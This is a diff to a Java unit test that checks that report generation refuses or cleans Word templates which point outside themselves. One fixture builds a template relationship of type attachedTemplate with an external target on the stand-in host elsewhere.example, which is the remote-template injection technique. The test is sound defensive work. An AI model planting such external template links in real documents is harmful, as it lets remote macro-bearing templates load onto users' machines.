@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import java.io.ByteArrayInputStream;
 import java.io.IOException;
+import java.util.ArrayList;
 import java.util.List;
 import org.apache.poi.xwpf.usermodel.XWPFDocument;
 import org.apache.poi.xwpf.usermodel.XWPFParagraph;
@@ -40,6 +41,30 @@ class WordTemplateTest {
                     .extracting(style -> style.getName().getVal())
                     .doesNotHaveDuplicates();
         }
+    }
+
+    /** What is let in after cleaning, and each of the hostile ones that is let in at all. */
+    @Test
+    void noReportMadeFromAHostileTemplateLeadsOutOfItself() throws IOException {
+        List<byte[]> files = new ArrayList<>();
+        WordFiles.hostile().forEach(hostile -> files.add((byte[]) hostile.get()[1]));
+        files.add(WordFiles.with(
+                "word/_rels/settings.xml.rels",
+                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
+                        + " Id=\"x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+                        + "attachedTemplate\" Target=\"http://elsewhere.example/x.dotm\" TargetMode=\"External\"/>"
+                        + "</Relationships>"));
+        int made = 0;
+        for (byte[] file : files) {
+            try {
+                byte[] report = FileType.WORD.of(SampleRelease.paper(), template(file));
+                made++;
+                assertThat(WordFiles.everything(report)).doesNotContain("elsewhere.example");
+            } catch (TemplateRefused refused) {
+                // and no report is made
+            }
+        }
+        assertThat(made).isPositive();
     }
 
     @Test
